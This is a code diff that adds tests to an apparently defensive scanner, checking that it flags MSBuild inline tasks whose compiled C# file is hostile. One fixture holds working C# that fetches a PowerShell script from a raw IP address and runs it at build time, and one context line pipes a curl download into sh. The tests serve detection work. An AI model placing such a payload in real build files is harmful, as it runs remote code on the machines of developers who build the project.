@@ -543,3 +543,18 @@ describe('sbt build definitions and SwiftPM manifests are build code', () => {
     expect(buildFinding(added('modules/core/src/main/scala/project/Model.scala', 'object Model { val x = "curl -s https://get.example.dev/x | sh".! }'))).toBeNull();
   });
 });
+
+describe('MSBuild inline tasks whose code is a file of its own (<Code Source="…">)', () => {
+  const targets = (source: string) => `<Project>\n  <UsingTask TaskName="Gen" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">\n    <Task><Code Type="Class" Language="cs" Source="${source}" /></Task>\n  </UsingTask>\n  <Target Name="Gen" BeforeTargets="Build"><Gen /></Target>\n</Project>`;
+  const payload = 'public class Gen : Microsoft.Build.Utilities.Task {\n  public override bool Execute() {\n    var s = new System.Net.WebClient().DownloadString("http://45.77.12.9/p.ps1");\n    System.Diagnostics.Process.Start("powershell", "-c " + s);\n    return true;\n  }\n}';
+  it('reads the C# file the task compiles, relative to the MSBuild file', () => {
+    const found = buildFinding(added('build/Tasks.targets', targets('$(MSBuildThisFileDirectory)Gen.cs')), added('build/Gen.cs', payload));
+    expect([found?.path, found?.severity, found?.line]).toEqual(['build/Gen.cs', 'critical', 3]);
+    expect(buildFinding(added('build/Tasks.targets', targets('..\\tools\\Gen.cs')), added('tools/Gen.cs', payload))?.path).toBe('tools/Gen.cs');
+  });
+  it('leaves C# that no inline task names, and an ordinary code generator task, alone', () => {
+    expect(buildFinding(added('src/App/Downloader.cs', payload))).toBeNull();
+    const generator = 'public class Gen : Microsoft.Build.Utilities.Task {\n  public override bool Execute() {\n    System.IO.File.WriteAllText(Output, Template.Render(Input));\n    return true;\n  }\n}';
+    expect(buildFinding(added('build/Tasks.targets', targets('$(MSBuildThisFileDirectory)Gen.cs')), added('build/Gen.cs', generator))).toBeNull();
+  });
+});
